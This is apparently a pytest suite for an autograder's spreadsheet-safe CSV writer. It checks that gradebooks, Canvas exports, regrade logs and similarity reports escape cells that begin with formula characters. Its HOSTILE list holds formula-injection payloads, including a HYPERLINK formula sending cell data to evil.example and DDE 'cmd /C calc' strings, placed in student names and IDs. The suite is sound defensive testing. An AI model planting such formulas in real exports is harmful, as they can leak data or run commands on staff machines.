"""Spreadsheet-safe CSV (autograder/core/csvsafe.py): no cell the grader writes opens as a formula.

The rule on its own, then every CSV writer fed hostile text (gradebook.csv, canvas.csv,
partial.csv, regrades.csv, similarity/pairs.csv), then a whole class through the real grade-all
command: a Gradescope export whose names, SIDs and emails are formulas, and a class of folders
named like formulas. Every CSV it writes is read back cell by cell: a cell may start with a
formula character only when it is a number the grader wrote.
"""
from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest
import yaml

from autograder.classdata import regrades, store
from autograder.classdata.discover import Member, Submission
from autograder.core import course, csvsafe
from autograder.reports import gradebook
from tests.helpers.tiny_course import cli, copy_of_tiny

FORMULA = ("=", "+", "-", "@", "\t", "\r")
#: How the grader writes a number: an optional minus, digits, an optional fraction.
GRADER_NUMBER = re.compile(r"-?\d+(\.\d+)?")
#: Text a TA's spreadsheet would run, each starting with a different formula character.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click me")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+2", "\r=1+2"]


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def live_formulas(path: Path) -> list[str]:
    """The cells of ``path`` a spreadsheet would read as a formula (a grader number is not one)."""
    return [c for c in cells(path) if c.startswith(FORMULA) and not GRADER_NUMBER.fullmatch(c)]


# ------------------------------------------------------------------ the rule


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_character_gets_a_quote_and_comes_back(text):
    assert csvsafe.neutral(text) == "'" + text
    assert csvsafe.restore(csvsafe.neutral(text)) == text


@pytest.mark.parametrize("text", ["Ada Lovelace", "1815", "ada@example.edu", "", "it's = fine", "'quoted"])
def test_other_text_is_written_unchanged(text):
    assert csvsafe.neutral(text) == text and csvsafe.restore(text) == text


def test_grader_numbers_stay_numbers_and_text_that_looks_like_one_does_not():
    assert csvsafe.cell(csvsafe.number(-2.5)) == "-2.5"
    assert csvsafe.cell(csvsafe.number(-2.499, places=2)) == "-2.5"
    assert csvsafe.cell(-2.5) == -2.5 and csvsafe.cell(-3) == -3 and csvsafe.cell(None) is None
    assert csvsafe.cell("-2.5") == "'-2.5"   # a student's SID "-2.5" is text, not a score


def test_dict_writer_quotes_every_cell_and_refuses_unknown_fields():
    buf = io.StringIO()
    writer = csvsafe.DictWriter(buf, ["name", "points"])
    writer.writeheader()
    writer.writerow({"name": "=1+2", "points": csvsafe.number(-1)})
    writer.writerow({"name": "Bo"})
    assert buf.getvalue() == "name,points\n'=1+2,-1\nBo,\n"
    with pytest.raises(ValueError, match="'extra'"):
        writer.writerow({"name": "x", "extra": 1})


# ------------------------------------------------------------------ each writer


def _results(score: float) -> dict:
    return {"score": score, "max_score": 25, "output": "", "tests": [
        {"name": "task1 a [a]", "task": "task1", "check": "a", "score": score, "max_score": 25,
         "status": "failed", "outcome": "failed", "output": ""}]}


def test_gradebook_and_canvas_quote_people_and_keep_a_negative_score(tmp_path):
    asg = course.load().assignment("why17")
    people = (Member(HOSTILE[0], HOSTILE[1], HOSTILE[2]), Member(HOSTILE[3], HOSTILE[3], "-x@example.edu"))
    entries = [(Submission(student="+cmd_C_calc_A0", path=tmp_path, members=people), _results(-2.5))]
    for text in (gradebook.gradebook_csv(entries, asg), gradebook.canvas_csv(entries, asg)):
        path = tmp_path / "out.csv"
        path.write_text(text, encoding="utf-8")
        assert live_formulas(path) == []
        assert "-2.5" in cells(path)                   # the score is still a number
    rows = list(csv.DictReader(io.StringIO(gradebook.gradebook_csv(entries, asg))))
    assert [(r["name"], r["sid"], r["email"]) for r in rows] == [
        ("'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]), ("'-2+3", "'-2+3", "'-x@example.edu")]
    assert {(r["student"], r["task1"], r["total"]) for r in rows} == {("'+cmd_C_calc_A0", "-2.5", "-2.5")}


def test_regrades_csv_quotes_the_student_keeps_scores_and_reads_back_as_written(tmp_path):
    old_record = store.Record(hash="h-old", key="k", seconds=1.0, source="")
    rows = regrades.changes("2026-12-01T00:00:00Z", "-2+3", _results(3.5), _results(-2.5),
                            old_record, "h-new", "k")
    regrades.append(tmp_path, rows)
    assert live_formulas(tmp_path / regrades.NAME) == []
    raw = list(csv.DictReader((tmp_path / regrades.NAME).open(newline="")))
    assert {(r["student"], r["old_score"], r["new_score"]) for r in raw} == {("'-2+3", "3.5", "-2.5")}
    assert {r["student"] for r in regrades.read(tmp_path)} == {"-2+3"}   # the summary shows the name


# ------------------------------------------------------------------ a class, through grade-all

#: A double.py long enough for the similarity report to compare (a copy shared by two students).
COPIED = '''"""Doubling, the long way round."""


def double(x):
    parts = [x for _ in range(2)]
    total = 0
    for part in parts:
        total = total + part
    if total != 2 * x:
        raise ValueError("doubling went wrong")
    return total
'''


def _gradescope_export(root: Path, tiny: Path) -> None:
    """Three submissions; every name, SID and email but the control's is a formula."""
    people = {
        "submission_1": [{":name": HOSTILE[0], ":sid": HOSTILE[1], ":email": HOSTILE[2]},
                         {":name": "-2+3", ":sid": "\t=1+2", ":email": "-2+3@example.edu"}],
        "submission_2": [{":name": "@SUM(A1:A9)", ":sid": "-2+3", ":email": "\tx@example.edu"}],
        "submission_3": [{":name": "Plain Student", ":sid": "12345", ":email": "plain@example.edu"}],
    }
    for i, folder in enumerate(people):
        source = "good_adds" if i != 1 else "wrong_squares"
        shutil.copytree(tiny / "submissions" / source, root / folder)
    (root / "submission_metadata.yml").write_text(
        yaml.safe_dump({k: {":submitters": v} for k, v in people.items()}), encoding="utf-8")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """(the tiny course, the Gradescope export's OUT, the folder class's OUT), graded by grade-all:
    the export twice (a regrade logs a change), the folders with --checks and --similarity."""
    base = tmp_path_factory.mktemp("csvsafe")
    tiny = copy_of_tiny(base)
    common = ("--course", tiny, "--assignment", "tiny", "--jobs", "1")
    _gradescope_export(base / "export", tiny)
    first = cli("grade-all", base / "export", "--out", base / "out", *common)
    assert first.returncode == 0, first.stderr[-2000:]
    stored = base / "out" / "-2+3" / "results.json"   # an older grading with another score
    results = json.loads(stored.read_text())
    results["tests"] = [{"name": "double [doubles_like_reference]", "task": "double",
                         "check": "doubles_like_reference", "score": 3.5, "max_score": 10,
                         "status": "failed", "outcome": "failed", "output": ""}]
    stored.write_text(json.dumps(results))
    second = cli("grade-all", base / "export", "--out", base / "out", "--force", *common)
    assert second.returncode == 0, second.stderr[-2000:]
    for name in ("=HYPERLINK(1)", "-2+3", "+cmd", "@SUM(1)"):
        (base / "folders" / name).mkdir(parents=True)
        (base / "folders" / name / "double.py").write_text(COPIED)
    third = cli("grade-all", base / "folders", "--out", base / "partial", "--checks",
                "doubles_like_reference", "--similarity", *common)
    assert third.returncode == 0, third.stderr[-2000:]
    return tiny, base / "out", base / "partial"


@pytest.mark.slow
def test_every_csv_grade_all_writes_has_no_live_formula(graded):
    _tiny, out, partial_out = graded
    written = sorted(p.relative_to(out.parent).as_posix() for o in (out, partial_out) for p in o.rglob("*.csv"))
    # partial.csv holds the --checks run's results only where the checks ran (a sandbox that cannot
    # start gives zeros "not graded", which are grades: gradebook.csv)
    assert {"out/canvas.csv", "out/gradebook.csv", "out/regrades.csv", "out/checks.csv", "out/overrides.csv",
            "partial/canvas.csv", "partial/gradebook.csv", "partial/checks.csv",
            "partial/similarity/pairs.csv"} <= set(written)
    assert set(written) <= {"out/canvas.csv", "out/gradebook.csv", "out/regrades.csv", "out/checks.csv",
                            "out/overrides.csv", "out/submitted.csv", "partial/canvas.csv", "partial/gradebook.csv",
                            "partial/partial.csv", "partial/checks.csv", "partial/overrides.csv",
                            "partial/submitted.csv", "partial/similarity/pairs.csv"}
    for name in written:
        assert live_formulas(out.parent / name) == [], name


@pytest.mark.slow
def test_the_export_s_people_are_all_there_quoted_and_restorable(graded):
    _tiny, out, _ = graded
    rows = list(csv.DictReader((out / "gradebook.csv").open(newline="", encoding="utf-8")))
    by_name = {csvsafe.restore(r["name"]): r for r in rows}
    assert sorted(by_name) == sorted([HOSTILE[0], "-2+3", "@SUM(A1:A9)", "Plain Student"])
    ada = by_name[HOSTILE[0]]
    assert (ada["name"], ada["sid"], ada["email"]) == tuple("'" + h for h in HOSTILE[:3])
    assert ada["student"].startswith("'+cmd")
    assert by_name["-2+3"]["sid"] == "'=1+2"          # the tab went with discover's strip
    assert by_name["@SUM(A1:A9)"]["student"] == "'-2+3"
    plain = by_name["Plain Student"]
    assert (plain["name"], plain["sid"], plain["email"]) == ("Plain Student", "12345", "plain@example.edu")
    canvas = list(csv.reader((out / "canvas.csv").open(newline="", encoding="utf-8")))
    assert len(canvas) == 2 + 4 and canvas[2][0] == "'" + HOSTILE[0]
    assert all(GRADER_NUMBER.fullmatch(row[-1]) for row in canvas[1:])


@pytest.mark.slow
def test_the_regrade_of_a_formula_named_student_is_logged_quoted(graded):
    _tiny, out, _ = graded
    raw = list(csv.DictReader((out / "regrades.csv").open(newline="", encoding="utf-8")))
    assert raw and {r["student"] for r in raw} == {"'-2+3"}
    assert {r["old_score"] for r in raw if r["check"] == "(total)"} == {"3.5"}
    summary = json.loads((out / "summary.json").read_text())
    assert {r["student"] for r in summary["regraded"]} == {"-2+3"}


@pytest.mark.slow
def test_folder_names_like_formulas_are_quoted_in_partial_and_pairs(graded):
    _tiny, _, partial_out = graded
    rows = [r for name in ("gradebook.csv", "partial.csv") if (partial_out / name).exists()
            for r in csv.DictReader((partial_out / name).open(newline="", encoding="utf-8"))]
    assert sorted((r["student"], r["name"]) for r in rows) == sorted([
        ("HYPERLINK_1", "'=HYPERLINK(1)"), ("'-2+3", "'-2+3"), ("'+cmd", "'+cmd"), ("'@SUM_1", "'@SUM(1)")])
    pairs = list(csv.DictReader((partial_out / "similarity" / "pairs.csv").open(newline="")))
    assert len(pairs) == 6 and {"'-2+3", "'+cmd", "'@SUM_1"} <= {r["student_a"] for r in pairs} | {
        r["student_b"] for r in pairs}
